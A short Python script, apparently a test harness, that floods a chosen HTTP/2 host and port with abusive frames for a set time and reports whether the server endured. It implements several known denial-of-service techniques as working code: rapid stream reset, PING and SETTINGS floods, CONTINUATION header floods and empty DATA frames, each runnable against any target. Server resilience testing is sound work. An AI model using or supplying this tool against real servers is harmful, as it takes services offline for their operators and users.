"""An HTTP/2 client that never stops sending. Prints how long it was endured, as one line of JSON.

usage: flood.py CASE HOST PORT SECONDS
"""

import json
import select
import socket
import struct
import sys
import time

case, host, port, limit = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# GET / over http, and an authority, from HPACK's static table.
REQUEST = b"\x82\x86\x84\x41" + bytes([len(host)]) + host.encode()


def rapid_reset(n):
    stream = 2 * n + 1
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST) + frame(
        RST_STREAM, 0, stream, struct.pack(">I", 8)
    )


def ping(n):
    return frame(PING, 0, 0, struct.pack(">Q", n))


def settings(n):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + n % 2))


def continuation(n):
    field = b"\x00\x04long\x7f\xe1\x07" + b"x" * 1120
    if n == 0:
        return frame(HEADERS, END_STREAM, 1, REQUEST)
    return frame(CONTINUATION, 0, 1, field * 10)


def empty_data(n):
    if n == 0:
        return frame(HEADERS, END_HEADERS, 1, b"\x83" + REQUEST[1:])
    return frame(DATA, 0, 1)


make = {f.__name__: f for f in (rapid_reset, ping, settings, continuation, empty_data)}[case]
connection = socket.create_connection((host, port), timeout=5)
connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
connection.setblocking(False)
begun, sent, received, frames, end = time.monotonic(), 0, b"", 0, "endured"
pending = b""
while time.monotonic() - begun < limit:
    if len(pending) < 65536:
        for _ in range(500):
            pending += make(frames)
            frames += 1
    readable, writable, _ = select.select([connection], [connection], [], 0.2)
    try:
        if readable:
            data = connection.recv(1 << 20)
            if not data:
                end = "closed"
                break
            received = (received + data)[-4096:]
        if writable:
            n = connection.send(pending)
            pending, sent = pending[n:], sent + n
    except OSError:
        end = "reset"
        break
print(json.dumps({"end": end, "seconds": time.monotonic() - begun, "sent": sent, "frames": frames}))
